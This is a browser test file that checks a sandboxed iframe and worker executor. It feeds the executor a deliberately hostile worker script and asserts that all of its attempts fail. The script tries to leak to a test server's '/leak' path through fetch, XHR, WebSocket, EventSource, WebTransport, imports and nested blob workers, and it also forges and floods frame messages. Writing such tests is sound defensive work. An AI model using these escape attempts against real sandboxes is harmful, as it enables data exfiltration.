/**
 * The frame's policy alone, without any help of ours inside the worker: the test boots the real frame with a worker's script that is hostile from
 * its first line, and a server that must see none of its attempts.
 */

import { afterAll, beforeAll, expect, test } from "vitest";
import { type Rig, rig } from "./browser.ts";

let r: Rig;

beforeAll(async () => {
  r = await rig();
});
afterAll(async () => {
  await r?.close();
});

/** Source of a worker that tries everything against `origin` and posts what came of it: { name: outcome }. */
function hostile(origin: string): string {
  const ws = origin.replace("http", "ws");
  return `
const attempts = {
  fetch: () => fetch("${origin}/leak?fetch", { mode: "no-cors" }),
  xhr: () => { const x = new XMLHttpRequest(); x.open("GET", "${origin}/leak?xhr", false); x.send(); },
  keepalive: () => fetch("${origin}/leak?keepalive", { method: "POST", keepalive: true, mode: "no-cors", body: "x" }),
  webSocket: () => new Promise((ok, no) => { const w = new WebSocket("${ws}/leak"); w.onopen = ok; w.onerror = () => no("error"); }),
  eventSource: () => new Promise((ok, no) => { const e = new EventSource("${origin}/leak?events"); e.onopen = ok; e.onerror = () => no("error"); }),
  webTransport: () => new WebTransport("${origin.replace("http", "https")}/leak?transport").ready,
  importScripts: () => importScripts("${origin}/executor/worker.js?leak"),
  import: () => import("${origin}/executor/page.js?leak"),
  importData: () => import("data:text/javascript,1"),
  worker: () => new Promise((ok, no) => { const w = new Worker("${origin}/executor/worker.js?leak"); w.onmessage = ok; w.onerror = () => no("error"); }),
  moduleWorker: () => new Promise((ok, no) => { const w = new Worker("${origin}/executor/page.js?leak", { type: "module" }); w.onmessage = ok; w.onerror = () => no("error"); }),
  font: () => new FontFace("x", "url(${origin}/leak?font)").load(),
  eval: () => eval("1"),
  function: () => new Function("return 1")(),
  indexedDB: () => new Promise((ok, no) => { const q = indexedDB.open("x"); q.onsuccess = ok; q.onerror = () => no("error"); }),
  caches: () => caches.open("x"),
  locks: () => navigator.locks.request("x", () => 1),
  directory: () => navigator.storage.getDirectory(),
};
async function run(names) {
  const outcome = {};
  for (const name of names) {
    const late = new Promise((_, no) => setTimeout(() => no("late"), 1000));
    try { await Promise.race([attempts[name](), late]); outcome[name] = "worked"; } catch (e) { outcome[name] = String(e?.name ?? e); }
  }
  return outcome;
}`;
}

interface Heard {
  /** What the worker posted first to its port. */
  posted: Record<string, string>;
  /** What the frame told about it until then, by kind. */
  told: Record<string, number>;
}

/** Boots a frame of its own in the page with that worker, and hears both. */
async function bootFrame(script: string): Promise<Record<string, string>> {
  return (await hearFrame(script)).posted;
}
function hearFrame(script: string): Promise<Heard> {
  return r.page.evaluate(async (worker) => {
    const element = document.createElement("iframe");
    element.setAttribute("sandbox", "allow-scripts");
    element.allow = "cross-origin-isolated";
    element.src = "frame.html";
    const ready = new Promise<void>((resolve) =>
      addEventListener("message", (event) => event.source === element.contentWindow && resolve()),
    );
    document.documentElement.append(element);
    await ready;
    const { port1, port2 } = new MessageChannel();
    element.contentWindow?.postMessage({ t: "connect" }, "*", [port2]);
    // A module with nothing but a memory, whose maximum the frame lowers.
    const memory = [5, 6, 1, 1, 1, 0x80, 0x80, 0x04];
    const wasm = new Uint8Array([0, 0x61, 0x73, 0x6d, 1, 0, 0, 0, ...memory]).buffer;
    const told: Record<string, number> = {};
    const waiting = new Map<string, () => void>();
    const hear = (kind: string): Promise<void> => new Promise((resolve) => waiting.set(kind, resolve));
    port1.onmessage = ({ data }) => {
      told[data.t] = (told[data.t] ?? 0) + 1;
      waiting.get(data.t)?.();
    };
    const booted = hear("booted");
    const python = { loader: "", modules: [] };
    const assets = { wasm, stdlib: new ArrayBuffer(0), asm: "", loader: "", worker, python, lockInfo: {} };
    port1.postMessage({ t: "boot", assets });
    await booted;
    const channel = new MessageChannel();
    const first = new Promise<Record<string, string>>((resolve) => {
      hear("failed").then(() => resolve({}));
      channel.port1.onmessage = ({ data }) => resolve(data);
    });
    port1.postMessage({ t: "spawn", id: 1, mode: "plain" }, [channel.port2]);
    const posted = await first;
    // The frame's messages come in order: after this answer it has told all that it heard before.
    const synced = hear("alarm");
    port1.postMessage({ t: "alarm", id: 1, ms: 0 });
    await synced;
    delete told.alarm;
    element.remove();
    return { posted, told };
  }, script);
}

function expectNothingWorked(outcome: Record<string, string>): void {
  expect(Object.keys(outcome).length).toBe(18);
  expect(Object.entries(outcome).filter(([, came]) => came === "worked")).toEqual([]);
  expect(r.peer.hits.filter((hit) => hit.includes("leak"))).toEqual([]);
}

test("a hostile worker reaches no server and no storage", async () => {
  const outcome = await bootFrame(
    `${hostile(r.peer.origin)}\nonmessage = async ({ data }) => data.port.postMessage(await run(Object.keys(attempts)));`,
  );
  expectNothingWorked(outcome);
});

test("nor does a worker that it starts from a blob", async () => {
  const nested = `${hostile(r.peer.origin)}\nonmessage = async () => postMessage(await run(Object.keys(attempts)));`;
  const outcome = await bootFrame(`onmessage = ({ data }) => {
  const w = new Worker(URL.createObjectURL(new Blob([${JSON.stringify(nested)}])));
  w.onmessage = (e) => data.port.postMessage(e.data);
  w.postMessage(0);
};`);
  expectNothingWorked(outcome);
});

test("what a worker forges to its frame is told and moves nothing", async () => {
  const { told } = await hearFrame(`onmessage = ({ data }) => {
  for (const forged of [null, "boot", { t: "base", base: new ArrayBuffer(8) }, { t: "booted" }, { t: "alarm", id: 1 }, { t: "failed" }]) postMessage(forged);
  postMessage({ t: "stopped" });
  data.port.postMessage({});
};`);
  expect(told).toEqual({ booted: 1, forged: 6 });
});

test("a worker that floods its frame is ended by it", async () => {
  const { told } = await hearFrame("onmessage = () => { for (;;) postMessage('?'); };");
  expect(told.failed).toBe(1);
  expect(told.forged).toBe(100);
});

test("the frame can't be opened outside of the sandbox", async () => {
  const page = await r.browser.newPage();
  try {
    await page.goto(`${r.peer.origin}/executor/frame.html`);
    expect(await page.evaluate(() => self.origin)).toBe("null");
  } finally {
    await page.close();
  }
});

test("the frame has shared memory for its kill flags, and an origin of its own", async () => {
  const frame = r.page.frames().find((one) => one.url().includes("frame.html"));
  expect(await frame?.evaluate(() => [self.crossOriginIsolated, self.origin])).toEqual([true, "null"]);
});

test("the page runs no inline script and is cross-origin isolated", async () => {
  const refused = await r.page.evaluate(() => {
    const script = document.createElement("script");
    script.textContent = "globalThis.leaked = 1";
    document.head.append(script);
    return { leaked: "leaked" in globalThis, isolated: self.crossOriginIsolated };
  });
  expect(refused).toEqual({ leaked: false, isolated: true });
});
